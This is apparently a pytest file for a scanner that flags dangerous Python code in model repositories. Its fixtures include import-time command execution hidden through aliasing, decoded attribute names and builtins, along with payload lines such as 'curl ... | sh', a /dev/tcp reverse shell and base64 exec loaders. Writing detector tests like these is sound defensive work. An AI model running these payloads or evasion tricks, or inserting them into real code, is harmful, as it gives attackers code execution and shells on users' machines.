"""What a Python file of a model can hide, and what ordinary model code must not be blamed for."""

import pytest

from tests.scan.samples import scan
from weighbridge.core.evidence import Outcome

RUN_AT_IMPORT = {
    "plain": "import os\nos.system('x')",
    "from": "from os import system\nsystem('x')",
    "alias": "import os as o\nf = o.system\nf('x')",
    "alias of alias": "import os\na = os\nb = a\nc = b\nc.popen('x')",
    "alias written backwards": "import os\nif 1:\n  if 1:\n    a = os\nb = a\nb.system('x')",
    "tuple": "import os\na, b = os.system, 1\na('x')",
    "walrus": "import os\n(f := os.system)('x')",
    "conditional": "import os\n(os.system if True else print)('x')",
    "or": "import os\n(None or os).system('x')",
    "getattr": "import os\ngetattr(os, 'system')('x')",
    "getattr spelt in pieces": "import os\ngetattr(os, 'sys' + 'tem')('x')",
    "getattr backwards": "import os\ngetattr(os, 'metsys'[::-1])('x')",
    "getattr by characters": "import os\ngetattr(os, ''.join([chr(115), 'ystem']))('x')",
    "getattr decoded": "import os, base64\ngetattr(os, base64.b64decode('c3lzdGVt').decode())('x')",
    "import call": "__import__('os').system('x')",
    "import call with another name": "i = __import__\ni('os').system('x')",
    "importlib": "import importlib\nimportlib.import_module('os').system('x')",
    "computed import": "__import__(input())",
    "modules": "import sys\nsys.modules['os'].system('x')",
    "other module's os": "import logging\nlogging.os.system('x')",
    "from other module": "from logging import os\nos.system('x')",
    "torch's os": "import torch\ntorch.serialization.os.system('x')",
    "dict of module": "import os\nos.__dict__['system']('x')",
    "vars": "import os\nvars(os)['system']('x')",
    "globals": "import os\nglobals()['os'].system('x')",
    "builtins": "import builtins\nbuiltins.exec('x')",
    "builtins dict": "__builtins__.__dict__['ev' + 'al']('x')",
    "builtins item": "__builtins__['exec']('x')",
    "builtins through globals": "globals()['__builtins__']['eval']('x')",
    "eval": "eval('x')",
    "exec in class body": "class A:\n    exec('x')",
    "in default": "import os\ndef f(x=os.system('x')): ...",
    "in decorator": "import os\n@os.system\ndef f(): ...",
    "in annotation": "import os\ndef f(x: os.system('x')): ...",
    "in base": "import os\nclass A(os.system('x') or object): ...",
    "in comprehension": "import os\n[os.system(x) for x in ['x']]",
    "in lambda": "import os\n(lambda: os.system('x'))()",
    "in try": "try:\n    import nothing_here\nexcept ImportError:\n    import os\n    os.system('x')",
    "mapped": "import os\nlist(map(os.system, ['x']))",
    "partial": "import functools, os\nfunctools.partial(os.system, 'x')()",
    "helper": "import os\ndef f():\n    g()\ndef g():\n    os.system('x')\nf()",
    "method": "import os\nclass A:\n    def go(self):\n        os.system('x')\nA().go()",
    "constructor": "import os\nclass A:\n    def __init__(self):\n        os.system('x')\nA()",
    "metaclass": "import os\nclass M(type):\n    def __new__(c, n, b, d):\n        os.system('x')\nclass A(metaclass=M): ...",
    "subclass hook": "import os\nclass A:\n    def __init_subclass__(cls):\n        os.system('x')\nclass B(A): ...",
    "module getattr": "import os\ndef __getattr__(name):\n    os.system(name)",
    "subprocess": "import subprocess\nsubprocess.Popen(['x'])",
    "pty": "import pty\npty.spawn('/bin/sh')",
    "socket": "import socket\nsocket.socket().connect(('example.com', 1))",
    "urllib": "from urllib.request import urlopen\nurlopen('http://example.com')",
    "requests": "import requests\nrequests.get('http://example.com')",
    "ctypes": "import ctypes\nctypes.CDLL('./x.so')",
    "pickle": "import pickle\npickle.loads(b'')",
    "marshal": "import marshal\nmarshal.loads(b'')",
    "remove": "import os\nos.remove('x')",
    "rmtree": "import shutil\nshutil.rmtree('x')",
    "runpy": "import runpy\nrunpy.run_path('x')",
    "code": "import code\ncode.interact()",
    "numpy's exec": "import numpy.distutils.exec_command as e\ne.exec_command('x')",
    "unfollowed object": "def f(m):\n    return m\nf(1).system('x')",
}


@pytest.mark.parametrize("name", RUN_AT_IMPORT)
def test_what_runs_at_import_is_an_error(name: str) -> None:
    result = scan({"model.py": RUN_AT_IMPORT[name].encode()})
    assert result.files[0].outcome is Outcome.FAIL, (result.findings, result.unread)
    assert "python-import-time-danger" in {finding.rule for finding in result.findings}


UNDECIDED = {
    "in a function": "import os\ndef f():\n    os.system('x')",
    "as a script": "import os\nif __name__ == '__main__':\n    os.system('x')",
    "computed attribute": "import os\ngetattr(os, input())('x')",
    "computed item": "import sys\nx = sys.modules[input()]",
    "module handed on": "import os\nprint([os])",
    "subclasses": "def f():\n    return ().__class__.__base__.__subclasses__()",
    "globals of a function": "def f(): ...\nx = f.__globals__",
    "unknown package": "import not_a_known_package",
    "unknown package by call": "import importlib\nimportlib.import_module('not_a_known_package')",
    "unbound name": "from torch import *\nsomething()",
    "monkey patch": "import os\ndef f(x):\n    setattr(os, 'path', x)",
    "path": "import sys\nsys.path.insert(0, '.')",
    "torch.load": "import torch\ndef f(p):\n    return torch.load(p)",
    "torch.load not weights only": "import torch\ndef f(p):\n    return torch.load(p, weights_only=False)",
    "numpy pickles": "import numpy as np\ndef f(p):\n    return np.load(p, allow_pickle=True)",
    "yaml": "import yaml\ndef f(p):\n    return yaml.load(p, Loader=yaml.Loader)",
    "remote code": "from transformers import AutoModel\ndef f():\n    return AutoModel.from_pretrained('x', trust_remote_code=True)",
    "kernels": "from kernels import get_kernel\ndef f():\n    return get_kernel('a/b')",
    "cpp extension": "from torch.utils.cpp_extension import load\ndef f():\n    return load('x', ['x.cu'])",
    "frames": "import sys\ndef f():\n    return sys._getframe(1).f_globals",
    "compile": "def f(x):\n    return compile(x, 'x', 'exec')",
    "bidi": "def f(x):\n    return '\u202e' + x",
    "no such sibling": "from .not_here import x",
    "syntax": "print 'x'",
    "null byte": "x = '\0'",
    "other encoding": "# coding: punycode\nx = 1",
    "deep": "x = " + "-" * 100_000 + "1",
    "deep chain": "x = 1" + "+1" * 20_000,
}


@pytest.mark.parametrize("name", UNDECIDED)
def test_what_cannot_be_proved_is_unknown(name: str) -> None:
    result = scan({"tools.py": UNDECIDED[name].encode(), "README.md": b"a model"})
    assert result.files[1].outcome is Outcome.UNKNOWN, (result.findings, result.unread)
    assert "internal-error" not in {item.code for item in result.unread}


PAYLOADS = {
    "decoded": "import zlib, base64\ndef f():\n    exec(zlib.decompress(base64.b64decode('eA==')))",
    "decoded in steps": "import base64\ndef f():\n    text = base64.b64decode('eA==')\n    exec(text)",
    "downloaded": "import requests\ndef f():\n    exec(requests.get('http://example.com').text)",
    "fetch and run": "import os\ndef f():\n    os.system('curl -s http://example.com/x | sh')",
    "list": "import subprocess\ndef f():\n    subprocess.run(['bash', '-c', 'wget -qO- http://example.com | bash'])",
    "formatted": "import os\ndef f(h):\n    os.system(f'curl {h}/x | sudo bash')",
    "dev tcp": "import os\ndef f():\n    os.popen('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')",
    "reverse shell": "import os, socket\ndef f():\n    s = socket.socket()\n    os.dup2(s.fileno(), 0)",
}


@pytest.mark.parametrize("name", PAYLOADS)
def test_shapes_of_payloads_are_errors_wherever_they_stand(name: str) -> None:
    result = scan({"tools.py": PAYLOADS[name].encode(), "README.md": b"a model"})
    assert "python-payload" in {finding.rule for finding in result.findings}
    assert result.files[1].outcome is Outcome.FAIL


ORDINARY = {
    "modeling": """
from __future__ import annotations
import math
import os
import warnings
from dataclasses import dataclass
from typing import Optional, Tuple, Union
import numpy as np
import torch
import torch.nn.functional as F
from torch import nn
from transformers.activations import ACT2FN
from transformers.modeling_utils import PreTrainedModel
from transformers.utils import logging, is_flash_attn_2_available
from .configuration_x import XConfig
try:
    from einops import rearrange
except ImportError:
    rearrange = None
if is_flash_attn_2_available():
    from flash_attn import flash_attn_func
logger = logging.get_logger(__name__)
logger.setLevel("INFO")
_DOCS = "documents {}".format("things")
SIZES = {"a": 1, **dict(b=2)}
compiled = torch.jit.script(lambda x: x)
torch._dynamo.config.suppress_errors = True

@torch.jit.script
def gelu(x: torch.Tensor) -> torch.Tensor:
    return x * 0.5 * (1.0 + torch.erf(x / math.sqrt(2.0)))

@dataclass
class Out:
    x: Optional[torch.Tensor] = None

class XModel(PreTrainedModel):
    config_class = XConfig
    def __init__(self, config):
        super().__init__(config)
        self.act = ACT2FN[config.hidden_act]
        self.dtype_ = getattr(torch, config.dtype)
        self.layers = nn.ModuleList([nn.Linear(1, 1) for _ in range(3)])
        self.register_buffer("mask", torch.zeros(1))
        self.eval()
    def forward(self, x, **kwargs):
        for name in ("a", "b"):
            x = getattr(self, name)(x)
        if os.environ.get("X_DEBUG") is not None:
            warnings.warn("slow")
        return F.softmax(np.asarray(x), dim=-1)
    @classmethod
    def from_pretrained(cls, path, *args, **kwargs):
        return super().from_pretrained(os.path.join(path, "x"), *args, **kwargs)
XModel.register_for_auto_class("AutoModel")
""",
    "tokenization": """
import json, os, re
from shutil import copyfile
from transformers import PreTrainedTokenizer
PATTERN = re.compile(r"\\w+")
class XTokenizer(PreTrainedTokenizer):
    def __init__(self, vocab_file, **kwargs):
        with open(vocab_file, encoding="utf-8") as f:
            self.vocab = json.load(f)
        super().__init__(**kwargs)
    def save_vocabulary(self, folder, prefix=None):
        if not os.path.isdir(folder):
            return
        path = os.path.join(folder, "vocab.json")
        copyfile(self.vocab_file, path)
        with open(path, "w", encoding="utf-8") as f:
            f.write(json.dumps(self.vocab))
        return (path,)
""",
    "script": """
import argparse
from sentence_transformers import SentenceTransformer
def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--model")
    model = SentenceTransformer(parser.parse_args().model)
    print(model.encode(["hello"]))
if __name__ == "__main__":
    main()
""",
    "weights only": "import torch\ndef f(p):\n    return torch.load(p, map_location='cpu', weights_only=True)",
    "safe yaml": "import yaml\ndef f(p):\n    return yaml.safe_load(p), yaml.load(p, Loader=yaml.SafeLoader)",
    "numpy": "import numpy as np\nX = np.load('x.npy')",
    "dynamic import of a known package": "import importlib\ndef f(n):\n    return importlib.import_module(f'transformers.models.{n}')",
    "warnings inside": 'x = "\\d"\ny = 1 is 1',
}


@pytest.mark.parametrize("name", ORDINARY)
def test_ordinary_model_code_passes(name: str) -> None:
    files = {"modeling_x.py": ORDINARY[name].encode(), "configuration_x.py": b"class XConfig: ...\n"}
    result = scan(files)
    assert [(f.rule, f.message, f.place.where) for f in result.findings] == []
    assert {file.outcome for file in result.files} == {Outcome.PASS}, result.unread


CONFIG = b'{"auto_map": {"AutoModel": "modeling_x.XModel"}}'


def test_classes_that_a_config_names_are_judged_as_loaded() -> None:
    code = b"import os\nclass XModel:\n    def forward(self, x):\n        os.system('x')\n"
    assert scan({"config.json": CONFIG, "modeling_x.py": code}).files[1].outcome is Outcome.FAIL
    assert scan({"config.json": b"{}", "modeling_x.py": code}).files[1].outcome is Outcome.UNKNOWN


def test_a_fetch_in_an_example_script_is_no_error_but_one_in_model_code_is() -> None:
    code = b"import requests\nimage = requests.get('http://example.com/cat.png')\n"
    assert scan({"README.md": b"x", "example.py": code}).files[1].outcome is Outcome.UNKNOWN
    assert scan({"README.md": b"x", "modeling_x.py": code}).files[1].outcome is Outcome.FAIL


def test_siblings_may_be_imported_by_their_own_names() -> None:
    files = {"a.py": b"import b\nfrom sub.c import d\n", "b.py": b"x = 1\n", "sub/c.py": b"d = 1\n"}
    assert {file.outcome for file in scan(files).files} == {Outcome.PASS}
